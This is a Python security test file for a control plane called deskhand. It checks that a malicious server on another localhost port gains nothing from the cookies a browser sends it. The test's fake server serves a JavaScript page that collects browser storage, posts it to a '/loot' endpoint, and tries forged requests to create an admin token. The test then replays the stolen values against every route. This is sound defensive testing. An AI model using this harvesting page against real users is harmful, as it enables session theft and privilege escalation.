"""Another server of the host where a person is signed in: it has the cookie of the control plane.

Cookies know no ports (RFC 6265 section 8.5), so a browser sends that of the control plane to the
server of an agent, whose operator copies it. At the port of a control plane that has stopped, the
page of such a server has the storage of the pages too. Neither may change or read anything.
"""

import json
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect

from deskhand.vncbridge.auth.request_headers import PAGE_KEY
from tests.system.browsing import plain_connection, plain_page, running_chromium
from tests.system.services import PATIENCE, Service, reserved_port, service

pytestmark = [pytest.mark.attack, pytest.mark.x11, pytest.mark.browser]

WITHOUT_A_CREDENTIAL = {
    *("GET /healthz", "HEAD /healthz", "GET /readyz", "GET /login", "HEAD /login"),
    *("GET /viewer/x", "HEAD /viewer/x", "GET /assets/x", "HEAD /assets/x"),
    *("GET /login/oidc", "GET /login/oidc/callback", "POST /api/v0/login"),
}
PAGES = {
    *("/", "/runs", "/runs/x", "/desktops/x", "/desktops/x/recordings/x"),
    *("/compare", "/system", "/try", "/docs"),
}
"""Pages are code without data."""
MEDIA = {
    "/api/v0/files/x",
    *(
        f"/api/v0/recordings/x/{name}"
        for name in ("video", "thumbnail", "clip", "filmstrip", "steps.vtt", "steps/x/picture")
    ),
    *(f"/api/v0/runs/x/{name}" for name in ("sheet.png", "trail.png")),
    *(f"/api/v0/desktops/x/desktop/recordings/x/{name}" for name in ("video", "thumbnail")),
}
"""Pictures and videos, which a browser requests by itself for the elements of a page."""
UPGRADE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
}
PAGE = """<!doctype html><title>dev server</title><script type="module">
const body = { storage: [...Object.values(localStorage), ...Object.values(sessionStorage)] };
const plane = new URLSearchParams(location.search).get("plane");
const tried = async (work) => { try { return await work(); } catch { return "refused"; } };
if (plane) {
  const to = (path) => new URL(path, plane).href;
  const sent = { method: "POST", credentials: "include", body: '{"scopes": ["admin"]}' };
  const type = { "Content-Type": "application/json" };
  const text = async (options) => (await fetch(to("/api/v0/tokens"), options)).text();
  body.json = await tried(() => text({ ...sent, headers: type }));
  await tried(() => text({ ...sent, mode: "no-cors" }));
  body.read = await tried(() => text({ credentials: "include" }));
  body.socket = await new Promise((resolve) => {
    const socket = new WebSocket(to("/api/v0/live").replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  });
}
await fetch("/loot", { method: "POST", body: JSON.stringify(body) });
document.title = "done";
</script>"""


@dataclass
class Loot:
    """What a browser has given to the server."""

    cookies: set[str] = field(default_factory=set)
    reports: list[dict[str, Any]] = field(default_factory=list)

    @property
    def keys(self) -> set[str]:
        """Whatever could be a second half of a session."""
        return {text for one in self.reports for text in one["storage"]}

    def tries(self) -> Iterator[dict[str, str]]:
        """Headers with each cookie alone, and with each text from the storage."""
        for cookie in self.cookies:
            yield {"Cookie": cookie}
            for key in self.keys:
                yield {"Cookie": cookie, PAGE_KEY: key}
                yield {"Cookie": cookie, "Authorization": f"Bearer {key}"}
                for found in re.findall(r"[\w-]{20,}", key):
                    yield {"Cookie": cookie, PAGE_KEY: found}


class SixServer(ThreadingHTTPServer):
    address_family = socket.AF_INET6


@contextmanager
def dev_server(address: str, port: int = 0) -> Iterator[tuple[int, Loot]]:
    """An agent's server, as `deskhand forward` shows it to a person."""
    loot = Loot()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            loot.cookies |= {self.headers["Cookie"]} - {None}
            self._answer(PAGE.encode())

        def do_POST(self) -> None:
            loot.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    kind = SixServer if ":" in address else ThreadingHTTPServer
    with kind((address, port), Handler) as server:
        serving = threading.Thread(target=server.serve_forever)
        serving.start()
        try:
            yield server.server_port, loot
        finally:
            server.shutdown()
            serving.join()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with (
        running_chromium(tmp_path_factory.mktemp("chromium")) as address,
        plain_connection(address) as found,
    ):
        yield found


@contextmanager
def plane(folder: Path, listen: str = "127.0.0.1:0") -> Iterator[Service]:
    arguments = ("up", "--data-dir", str(folder / "data"), "--listen", listen)
    with service(folder / "errors.log", *arguments) as found:
        yield found


def sign_in(page: Page, found: Service, url: str) -> None:
    """Sign in, and see that the home page is complete."""
    code = found.post("/api/v0/login/codes", {})["code"]
    page.goto(f"{url}/login?next=/#code={code}")
    page.wait_for_url(f"{url}/")
    expect(page.locator("#model strong")).to_be_visible()


def attacked(page: Page, loot: Loot, url: str, of: str = "") -> None:
    page.goto(f"{url}/?plane={of}")
    expect(page).to_have_title("done")
    # The control: the browser does send the cookie.
    assert any("deskhand_" in cookie for cookie in loot.cookies), loot


def passed(found: Service, headers: dict[str, str]) -> set[str]:
    """Return the routes that do not refuse these headers for the lack of a credential."""
    own = {"Origin": found.url, "Content-Type": "application/json", **headers}
    open_to = set()
    with httpx2.Client(base_url=found.url, timeout=PATIENCE) as client:
        for route in found.get("/openapi.json")["x-routes"]:
            is_socket = route["method"] == "WEBSOCKET"
            path = re.sub(r"\{[^}]*\}", "x", route["path"])
            method = "GET" if is_socket else route["method"]
            content = b"{}" if method in ("POST", "PUT", "PATCH") else None
            asked = {**own, **(UPGRADE if is_socket else {})}
            with client.stream(method, path, headers=asked, content=content) as answer:
                if answer.status_code != 401:
                    open_to.add(f"{'WEBSOCKET' if is_socket else method} {path}")
    return open_to


def assert_worthless(found: Service, loot: Loot) -> None:
    shown = {f"{method} {path}" for path in PAGES | MEDIA for method in ("GET", "HEAD")}
    for headers in loot.tries():
        made = httpx2.post(
            f"{found.url}/api/v0/tokens",
            json={"scopes": ["admin"]},
            headers={"Origin": found.url, **headers},
        )
        assert made.status_code == 401, made.text
        # A token has the same rights at all routes, and each that is wrong costs half a second.
        assert "Authorization" in headers or passed(found, headers) <= WITHOUT_A_CREDENTIAL | shown
    assert not found.get("/api/v0/tokens")["tokens"]


@pytest.mark.slow("tries each route of a control plane of its own")
@pytest.mark.parametrize(
    ("listen", "host"),
    [("127.0.0.1", "127.0.0.1"), ("[::1]", "[::1]"), ("127.0.0.1", "localhost")],
)
def test_a_server_at_another_port_gets_nothing_of_use(
    browser: Browser, tmp_path: Path, listen: str, host: str
) -> None:
    with (
        plane(tmp_path, f"{listen}:0") as found,
        dev_server(listen.strip("[]")) as (port, loot),
        plain_page(browser) as page,
    ):
        url = f"http://{host}:{urlsplit(found.url).port}"
        sign_in(page, found, url)
        attacked(page, loot, f"http://{host}:{port}", url)
        (report,) = loot.reports
        assert not loot.keys
        assert [report[name] for name in ("json", "read", "socket")] == ["refused"] * 3
        assert_worthless(found, loot)
        # The control: the person goes on.
        page.goto(f"{url}/")
        expect(page.locator("#model strong")).to_be_visible()


@pytest.mark.slow("three control planes, one after another")
def test_a_server_at_the_port_of_a_stopped_service_gets_nothing_of_use(
    browser: Browser, tmp_path: Path
) -> None:
    with ExitStack() as held, plain_page(browser) as page:
        port = held.enter_context(reserved_port())
        url = f"http://127.0.0.1:{port}"
        with plane(tmp_path, f"127.0.0.1:{port}") as found:
            sign_in(page, found, url)
        with dev_server("127.0.0.1", port) as (_, loot):
            attacked(page, loot, url)
        with plane(tmp_path) as elsewhere:
            assert_worthless(elsewhere, loot)
        with plane(tmp_path, f"127.0.0.1:{port}") as again:
            assert_worthless(again, loot)
            # The person signs in again, which the page says.
            page.goto(f"{url}/runs")
            expect(page.locator("#words")).to_contain_text("Sign in again")
            sign_in(page, again, url)
